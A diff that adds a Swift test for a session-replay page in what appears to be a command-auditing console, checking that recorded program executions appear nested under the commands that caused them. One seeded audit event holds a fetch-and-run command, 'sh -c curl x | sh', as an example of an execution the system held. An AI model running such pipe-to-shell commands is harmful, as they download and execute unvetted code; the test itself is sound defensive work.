@@ -208,3 +208,29 @@ struct ConsoleRouteTests {
         #expect(!TOTP.verify("287082", secret: secret, at: Date(timeIntervalSince1970: 59 + 120)))
     }
 }
+
+/// The replay page puts what ran under what was approved.
+struct ReplayExecTreeTests {
+    @Test func programStartsAreListedUnderTheCommandThatCausedThem() async throws {
+        let f = try await ConsoleFixture()
+        try FileManager.default.createDirectory(atPath: f.dir.file("recordings"), withIntermediateDirectories: true)
+        try "{\"version\":2,\"width\":80,\"height\":24}\n[0.1,\"m\",\"#1 make\"]\n".write(toFile: f.dir.file("recordings") + "/s-9.cast", atomically: true, encoding: .utf8)
+        _ = try await f.audit.append(AuditEvent(code: .commandForwarded, session: "s-9", actor: "alice", fields: ["n": 1, "command": "make"]))
+        _ = try await f.audit.append(AuditEvent(code: .execAllowed, session: "s-9", actor: "alice", fields: [
+            "n": 1, "argv": ["cc", "-c", "main.c"], "resolved": "/usr/bin/x86_64-linux-gnu-gcc-12", "sha256": "ab12cd34ef56ab12cd34",
+            "parents": ["/usr/bin/make make", "/usr/bin/bash bash"], "basis": "analysed on its own"]))
+        _ = try await f.audit.append(AuditEvent(code: .execHeld, session: "s-9", actor: "alice", fields: [
+            "n": .null, "argv": ["sh", "-c", "curl x | sh"], "resolved": "/usr/bin/dash", "parents": ["/usr/bin/bash bash"]]))
+        try await ConsoleRouteTests().app(f).test(.router) { client in
+            let ada = try #require(try await signIn(client, "ada"))
+            let html = String(buffer: try await client.execute(uri: "/replay/s-9", method: .get, headers: [.cookie: ada.cookie]).body)
+            #expect(html.contains("id=\"execs\""), "\(html)")
+            let under = try #require(html.range(of: "Command #1"))
+            let cc = try #require(html.range(of: "cc -c main.c"))
+            #expect(under.lowerBound < cc.lowerBound)
+            #expect(html.contains("ALLOWED; /usr/bin/x86_64-linux-gnu-gcc-12; sha256 ab12cd34ef56"))
+            #expect(html.contains("Outside any command") && html.contains("HELD"))
+            #expect(html.contains("margin-left:2em"))
+        }
+    }
+}
